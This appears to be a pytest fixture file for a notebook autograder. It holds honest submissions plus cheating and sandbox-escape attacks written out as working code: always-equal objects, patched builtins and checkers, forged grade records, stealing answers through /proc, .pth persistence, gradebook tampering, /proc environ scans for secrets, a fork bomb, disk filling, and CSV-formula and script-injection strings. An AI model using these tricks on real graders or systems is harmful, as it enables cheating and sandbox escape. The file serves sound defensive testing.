"""The one-notebook class that tests/test_grading*.py grade: a solution, honest students, cheats, attacks.

`solution_nb()` is a small solution notebook (pure Python + numpy, 10 points); `submission()`
edits its released exercise. HONEST and TAMPER are in-kernel tricks; `attacks()` are the red
team's escapes from issue 14 (reading answers, forging records, writing where the grader
trusts what it reads, leaking hidden tests, injecting into outputs), given the absolute paths
of the class so that each attacker is as strong as it can be.
"""

from __future__ import annotations

import os
import textwrap
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from course_lib.grading import sandbox
from course_lib.grading.release import release_notebook

REPO = Path(__file__).resolve().parents[1]


@pytest.fixture
def sandbox_required():
    """Skip a test that needs the bubblewrap sandbox where it cannot start, saying why; in CI (`CI=true`)
    fail instead, so a CI where the sandbox cannot start is never green with its guarantees untested."""
    why = sandbox.unavailable_reason()
    if why and os.environ.get("CI") == "true":
        pytest.fail(f"CI=true, and the grading sandbox cannot start here: {why}", pytrace=False)
    if why:
        pytest.skip(f"no sandbox on this machine: {why}")


needs_sandbox = pytest.mark.usefixtures("sandbox_required")
POINTS = {"q1_count": 2, "q2_mean": 3, "q3_choice": 1, "q4_unit": 4}
TOTAL = sum(POINTS.values())

# (cell id, source, grade_id or None)
SOLUTION = [
    ("c0", "import math\nimport numpy as np\nfrom course_lib.grading import check", None),
    ("c1", 'def count_words(text):\n    """Words separated by whitespace."""\n'
           "    ### BEGIN SOLUTION\n    return len(text.split())\n    ### END SOLUTION", None),
    ("t1", 'check.equal("two", count_words("a b"), 2, hint="split on whitespace")\n'
           'assert count_words("a  b") == 2, "two spaces are still one gap"\n'
           '### BEGIN HIDDEN TESTS\ncheck.equal("empty", count_words(""), 0)\n### END HIDDEN TESTS', "q1_count"),
    ("c2", "def mean(xs):\n    ### BEGIN SOLUTION\n    return sum(xs) / len(xs)\n    ### END SOLUTION", None),
    ("t2", 'check.close("mean", mean([1, 2]), 1.5)\nassert math.isclose(mean([2]), 2.0)', "q2_mean"),
    ("c3", '### BEGIN SOLUTION\nanswer_q3 = "C"\n### END SOLUTION', None),
    ("t3", 'check.equal("q3", answer_q3, "C")', "q3_choice"),
    ("c4", "def unit(v):\n    ### BEGIN SOLUTION\n    return v / np.linalg.norm(v)\n    ### END SOLUTION", None),
    ("t4", 'u = unit(np.array([3.0, 4.0]))\ncheck.shape("shape", u, (2,))\n'
           'check.close("unit", u, np.array([0.6, 0.8]), rel_tol=1e-9)\n'
           '### BEGIN HIDDEN TESTS\ncheck.close("unit_3d", unit(np.array([2.0, 0.0, 0.0])))\n'
           '### END HIDDEN TESTS', "q4_unit"),
]


def solution_nb() -> nbformat.NotebookNode:
    cells = [new_markdown_cell("# Exercises: counting")]
    cells[0].id = "m0"
    for cid, src, gid in SOLUTION:
        meta = {"course": {"grade_id": gid, "points": POINTS[gid]}} if gid else {}
        cell = new_code_cell(src, metadata=meta)
        cell.id = cid
        cells.append(cell)
    return new_notebook(cells=cells, metadata={"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                              "language": "python"}})


def submission(answers: dict[str, str], drop: tuple[str, ...] = (), extra: list[str] = (),
               tests: dict[str, str] | None = None) -> nbformat.NotebookNode:
    """The released exercise with answer cells (by id) replaced, cells dropped, cells added."""
    nb = release_notebook(solution_nb(), "01_count")
    cells = []
    for cell in nb.cells:
        if cell.id in drop:
            continue
        if cell.id in answers:
            cell.source = answers[cell.id]
        if tests and cell.id in tests:
            cell.source = tests[cell.id]
        cells.append(cell)
    for i, src in enumerate(extra):
        cell = new_code_cell(src)
        cell.id = f"x{i}"
        cells.insert(2, cell)  # right after the imports, before any answer
    nb.cells = cells
    return nb


RIGHT = {"c1": "def count_words(text):\n    return len(text.split())", "c2": "def mean(xs):\n    return sum(xs) / len(xs)",
         "c3": 'answer_q3 = "C"', "c4": "def unit(v):\n    return v / np.linalg.norm(v)"}
WRONG = {"c1": "def count_words(text):\n    return 7", "c2": "def mean(xs):\n    return 0.0",
         "c3": 'answer_q3 = "A"', "c4": "def unit(v):\n    return v"}
ALWAYS = """
class Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __float__(self): return 0.0
    def __hash__(self): return 0
"""
TAMPER = {
    "deleted_tests": (WRONG, ("t1",), [], {"t2": "", "t3": "pass", "t4": "check.close = print"}),
    "sys_exit": ({**WRONG, "c1": "import sys\ndef count_words(text):\n    sys.exit(0)"}, (), ["raise SystemExit"], None),
    "os_exit": (WRONG, (), ["import os\nos._exit(0)"], None),
    "kill_kernel": (RIGHT, (), [], {"c2": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"}),
    "infinite_loop": ({**WRONG, "c1": "def count_words(text):\n    while True:\n        pass",
                       "c2": "import time\nwhile True:\n    try:\n        time.sleep(0.1)\n    except KeyboardInterrupt:\n        pass"},
                      (), [], None),
    "print_flood": (WRONG, (), ["print('x' * 20_000_000)\nfor i in range(3): print('0' * 40 + ' {\"event\": \"done\", \"gid\": \"q1_count\"}')"], None),
    "memory_blowup": (WRONG, (), ["c = []\nwhile True:\n    c.append(bytes(5 * 10**8))", "x = bytearray(10**11)"], None),
    "always_equal": ({"c1": ALWAYS + "def count_words(text):\n    return Yes()", "c2": "def mean(xs):\n    return Yes()",
                      "c3": "answer_q3 = Yes()", "c4": "def unit(v):\n    return Yes()"}, (), [], None),
    "lying_subclasses": ({"c1": "class I(int):\n    def __eq__(s, o): return True\ndef count_words(text):\n    return I(9)",
                          "c2": "class F(float):\n    def __eq__(s, o): return True\n    def __sub__(s, o): return 0.0\n"
                                "    __rsub__ = __sub__\ndef mean(xs):\n    return F(9.0)",
                          "c3": "class S(str):\n    def __eq__(s, o): return True\nanswer_q3 = S('A')",
                          "c4": "class A(np.ndarray):\n    def __eq__(s, o): return True\n"
                                "def unit(v):\n    return np.zeros(2).view(A)"}, (), [], None),
    "patched_builtins": (WRONG, (), ["import builtins, math\nbuiltins.isinstance = lambda *a: True\nbuiltins.len = lambda x: 2\n"
                                     "builtins.AssertionError = type('Nope', (Exception,), {})\nbuiltins.type = lambda *a: float\n"
                                     "math.isclose = lambda *a, **k: True"], None),
    "patched_check": (WRONG, (), ["import course_lib.grading.check as C, course_lib.grading.verdict as V, course_lib.grading.observe as O\n"
                                  "real = C.equal\nC.equal = lambda n, v, e=None, **k: real(n, e, e)\n"
                                  "C.close = C.shape = lambda *a, **k: None\nV.compare = lambda *a, **k: None\n"
                                  "O.make_encoder = lambda *a, **k: (lambda v: ['int', 2])\ncheck = C"], None),
    "patched_libs": (WRONG, (), ["import torch\ntorch.allclose = lambda *a, **k: True\nnp.allclose = np.isclose = lambda *a, **k: True\n"
                                 "np.linalg.norm = lambda v: 1.0\nnp.array_equal = lambda *a, **k: True"], None),
    "swallow_errors": (WRONG, (), ["get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
                                   "import sys\nsys.excepthook = lambda *a: None"], None),
}
HONEST = {
    "solution": (RIGHT, (), [], None),
    "exercise": ({}, (), [], None),
    # right q1 q3, integer division in q2, q4 left as the stub: 2 + 1
    "partial_a": ({"c1": RIGHT["c1"], "c2": "def mean(xs):\n    return sum(xs) // len(xs)", "c3": RIGHT["c3"]}, (), [], None),
    # q1 passes the visible check but not the hidden one; q2 and q4 right: 3 + 4
    "partial_b": ({**RIGHT, "c1": "def count_words(text):\n    return len(text.split()) or 1",
                   "c3": 'answer_q3 = "B"'}, (), [], None),
    # q2's answer cell deleted: q1, q3, q4 still count: 2 + 1 + 4
    "missing_answer": (RIGHT, ("c2",), [], None),
}
EXPECTED_TOTAL = {"solution": TOTAL, "exercise": 0, "partial_a": 3, "partial_b": 7, "missing_answer": 7,
                  "kill_kernel": 2, **{k: 0 for k in TAMPER if k != "kill_kernel"}}


# ---- issue 14: escapes from the kernel. Each returns full marks without a sandbox unless noted. ----

_LOADER = """
import json, os, pathlib
def _steal(cands):
    for path in cands:
        try:
            nb = json.loads(pathlib.Path(path).read_text())
        except Exception:
            continue
        for c in nb["cells"]:
            src = "".join(c["source"]) if isinstance(c["source"], list) else c["source"]
            if c["cell_type"] == "code" and "check." not in src:
                try:
                    exec(src, globals())
                except BaseException:
                    pass
        return path
def _proc_dirs():
    for pid in os.listdir("/proc"):
        try:
            cwd = pathlib.Path(os.readlink(f"/proc/{pid}/cwd"))
            argv = open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\\0")
        except Exception:
            continue
        yield cwd
        yield from (cwd / a / ".." for a in argv if a.endswith("solutions") or a.endswith("subs"))
"""


def _stealer(cands: str) -> dict[str, str]:
    src = _LOADER + f"_steal({cands})\n"
    return {cid: src for cid in ("c1", "c2", "c3", "c4")}


def attacks(root: Path, repo: Path, uid: str) -> dict[str, tuple]:
    """name -> (answers, drop, extra cells, tests) for `submission`; `root` is the class folder."""
    sol, book, cache = str(root / "solutions" / "01_count.ipynb"), str(root / "gradebook.csv"), str(root / ".grade-cache")
    forged = textwrap.dedent(f"""
        import os, json, glob, threading, time
        rec = next((v for k, v in list(globals().items()) if k.startswith("_course_")), None)
        nonce = next((k[len("_course_"):] for k in list(globals()) if k.startswith("_course_")), "")
        GOOD = [("q1_count", False, "equal", "two", 2), ("q1_count", True, "equal", "empty", 0),
                ("q2_mean", False, "close", "mean", 1.5), ("q3_choice", False, "equal", "q3", "C"),
                ("q4_unit", False, "shape", "shape", np.array([0.6, 0.8])),
                ("q4_unit", False, "close", "unit", np.array([0.6, 0.8])),
                ("q4_unit", True, "close", "unit_3d", np.array([1.0, 0.0, 0.0]))]
        cached = {{}}
        for f in glob.glob({cache!r} + "/*.json"):
            try:
                cached = json.load(open(f))["expected"]
            except Exception:
                pass
        def forge():
            for gid, hidden, kind, name, value in GOOD:
                rec and rec.observe(gid, hidden, kind, name, value)
            for gid in ("q1_count", "q2_mean", "q3_choice", "q4_unit"):
                rec and rec.done(gid)
                for o in cached.get(gid, []):
                    os.write(3, (nonce + " " + json.dumps({{**o, "gid": gid}}) + "\\n").encode())
                os.write(3, (nonce + " " + json.dumps({{"event": "done", "gid": gid}}) + "\\n").encode())
        def loop():
            while True:
                try:
                    forge()
                except Exception:
                    pass
                time.sleep(0.01)
        forge()
        threading.Thread(target=loop, daemon=True).start()
        """)
    pth = textwrap.dedent(f"""
        import os, site, sysconfig
        payload = "import os; os.makedirs({str(root / 'pth-ran')!r}, exist_ok=True)\\n"
        for d in {{sysconfig.get_paths()["purelib"], *site.getsitepackages(), {str(repo / '.venv/lib/python3.11/site-packages')!r}}}:
            try:
                open(os.path.join(d, "zz_course_pwn_{uid}.pth"), "w").write(payload)
            except Exception:
                pass
        """)
    edit = textwrap.dedent(f"""
        import course_lib, pathlib
        here = pathlib.Path(course_lib.__file__).parent / "grading"
        for t in (here / "verdict.py", here / "observe.py", pathlib.Path({str(repo / 'course_lib/grading/verdict.py')!r}),
                  pathlib.Path({str(repo / 'course_lib/grading/observe.py')!r})):
            try:
                open(t, "a").write("\\ncompare = lambda *a, **k: None  # pwned-{uid}\\n")
            except Exception:
                pass
        """)
    background = textwrap.dedent(f"""
        import subprocess, sys
        code = ("import time, os\\ntime.sleep(3)\\nos.makedirs({str(root / 'bg-ran')!r}, exist_ok=True)\\n"
                "open({book!r}, 'a').write('background,01_count,q1_count,2,2,passed,\\\\n')\\ntime.sleep(600)")
        subprocess.Popen([sys.executable, "-c", code, "bgmarker-{uid}"], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        """)
    poison = textwrap.dedent(f"""
        import glob, json
        for f in glob.glob({cache!r} + "/*.json"):
            try:
                d = json.load(open(f))
                for obs in d["expected"].values():
                    for o in obs:
                        o["value"] = ["unsupported", "poisoned"]
                json.dump(d, open(f, "w"))
            except Exception:
                pass
        """)
    append = (f"for p in ({book!r}, {book.replace('.csv', '_summary.csv')!r}):\n"
              "    try:\n        open(p, 'a').write('append_gradebook,01_count,q1_count,100,2,passed,\\n')\n"
              "    except Exception:\n        pass")
    hidden_leak = {"c1": 'def count_words(text):\n    if text in ("a b", "a  b"):\n        return 2\n'
                         '    raise ValueError("input=" + repr(text) + get_ipython().user_ns["In"][-1])',
                   "c2": 'def mean(xs):\n    raise ValueError("x" * 3000)', "c3": RIGHT["c3"],
                   "c4": "def unit(v):\n    if list(v) == [3.0, 4.0]:\n        return np.array([0.6, 0.8])\n"
                         '    raise ValueError("input=" + repr(v.tolist()))'}
    return {
        "read_solution_file": (_stealer(f"[p / 'solutions' / '01_count.ipynb' for p in "
                                        f"pathlib.Path(__import__('course_lib').__file__).resolve().parents] + [{sol!r}]"),
                               (), [], None),
        "read_solution_proc": (_stealer("[d / 'solutions' / '01_count.ipynb' for d in _proc_dirs()]"), (), [], None),
        "read_classmate": (_stealer(f"[{str(root / 'subs/solution/01_count.ipynb')!r}] + "
                                    "[d / 'subs/solution/01_count.ipynb' for d in _proc_dirs()]"), (), [], None),
        "replay_records": (WRONG, (), [forged], None),
        "append_gradebook": (WRONG, (), [append], None),
        "poison_cache": (WRONG, (), [poison], None),
        "edit_source": (WRONG, (), [edit], None),
        "pth_file": (WRONG, (), [pth], None),
        "background": (WRONG, (), [background], None),
        "leak_hidden": (hidden_leak, (), [], None),
        "leak_visible": ({**WRONG, "c1": 'def count_words(text):\n    import sys, linecache\n'
                                         '    src = "".join(linecache.getlines(sys._getframe(1).f_code.co_filename))\n'
                                         '    raise ValueError(src[src.find(", True, ") - 30:])'},
                         (), [], None),
        "=HYPERLINK(1+2)": ({**WRONG, "c2": "def mean(xs):\n    raise ValueError(\"=cmd|' /C calc'!A0\")"},
                            (), [], None),
        "<img src=x onerror=alert(1)>": ({**WRONG, "c2": 'def mean(xs):\n'
                                                         '    raise ValueError("<script>alert(1)</script> `x` |")'},
                                         (), [], None),
    }


# What each attack earns in the sandbox: leak_hidden keeps q3 (1 point) it answered honestly.
ATTACK_TOTAL = {"leak_hidden": 1}


# ---- issue 27: a hostile class. Each reports what it reached through q2's visible message (`mean` raises). ----

def _report(body: str) -> str:
    """An answer for q2 that runs `body` (which sets `report`) and raises it, so the gradebook shows it."""
    return "def mean(xs):\n" + textwrap.indent(body, "    ") + "\n    raise ValueError(report)"


SECRET_ENV = "COURSE_GRADER_SECRET_27"

HOSTILE = {
    # item 1: text no file takes
    "surrogate": {**WRONG, "c2": _report('report = "bad \\ud800 text"')},
    "nul_byte": {**WRONG, "c2": _report('report = "nul \\x00 escape \\x1b[31m bidi \\u202e end"')},
    # item 2: the grader's environment through PID 1 (bwrap) or anything else in /proc
    "environ": {**WRONG, "c2": _report(
        "import os, glob\nfound = []\nfor f in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n"
        "    try:\n        data = open(f, 'rb').read()\n    except OSError:\n        continue\n"
        f"    if b'{SECRET_ENV}' in data or b'--ro-bind' in data:\n        found.append(f)\n"
        "report = 'found ' + ' '.join(found) if found else 'clean'")},
    # item 4: processes, memory outside RLIMIT_AS, nested user namespaces
    "fork_bomb": {**WRONG, "c2": _report(
        "import subprocess\nprocs = []\ntry:\n    for i in range(2000):\n"
        "        procs.append(subprocess.Popen(['sleep', '30']))\nexcept OSError:\n    pass\n"
        "report = f'spawned {len(procs)}'")},
    "write_root": {**WRONG, "c2": _report(
        "import subprocess\nres = []\nfor path in ('/big', '/dev/big', '/opt/course/lib/big'):\n"
        "    try:\n        open(path, 'wb').write(b'x' * 10_000_000)\n        res.append(path + ' written')\n"
        "    except OSError as e:\n        res.append(path + ' ' + type(e).__name__)\n"
        "rc = subprocess.run(['unshare', '-Urm', 'true'], capture_output=True).returncode\n"
        "report = ' '.join(res) + f' unshare {rc}'")},
    # item 5: fill the disk (its scratch is a size-limited tmpfs)
    "fill_disk": {**WRONG, "c2": _report(
        "import os\nn = 0\nfor path in ('/tmp/fill', os.path.expanduser('~/fill'), '/dev/shm/fill'):\n"
        "    try:\n        with open(path, 'wb') as f:\n            while True:\n"
        "                f.write(b'x' * 1_000_000)\n                n += 1\n"
        "    except OSError:\n        pass\nreport = f'wrote {n} MB'")},
    # item 8: read the running test cell and reformat its hidden calls past a quote filter
    "reformat_leak": {**WRONG, "c1": "def count_words(text):\n    import sys, linecache\n"
                      "    if text != 'a b':\n        return 2\n"
                      "    src = ''.join(linecache.getlines(sys._getframe(1).f_code.co_filename))\n"
                      "    raise ValueError(' '.join(src.replace('(', ' ( ').replace(',', ' , ').split())[-150:])"},
}
# item 7: two folders whose feedback files used to collide; the attacker hands in the blank exercise
COLLIDE = {"bob_smith": RIGHT, "bob~smith": {}}


def flood_cell(messages: int) -> str:
    """Item 3: `messages` error outputs of about 1 MB each (the grader used to keep every one)."""
    return ("ip = get_ipython()\ntry:\n    raise ValueError('x' * 1_000_000)\nexcept ValueError:\n"
            f"    for i in range({messages}):\n        ip.showtraceback()")


def die_on(task: str) -> str:
    """A grading function for tests/test_grading.py's lost-worker test: the task 'die' kills its worker."""
    import os
    if task == "die":
        os._exit(9)
    return task.upper()


def model_solution() -> nbformat.NotebookNode:
    """Item 13: a solution that needs the real model (sft.DEFAULT_MODEL) and fails without it."""
    cells = [new_code_cell("from course_lib.grading import check\n# tokenizer = load_tokenizer(sft.DEFAULT_MODEL)\n"
                           "tokenizer = missing_model_tokenizer"),
             new_code_cell("### BEGIN SOLUTION\nanswer = 1\n### END SOLUTION"),
             new_code_cell('check.equal("answer", answer + len(tokenizer), 1)',
                           metadata={"course": {"grade_id": "q1", "points": 1}})]
    for i, cell in enumerate(cells):
        cell.id = f"m{i}"
    return new_notebook(cells=cells, metadata=solution_nb().metadata)
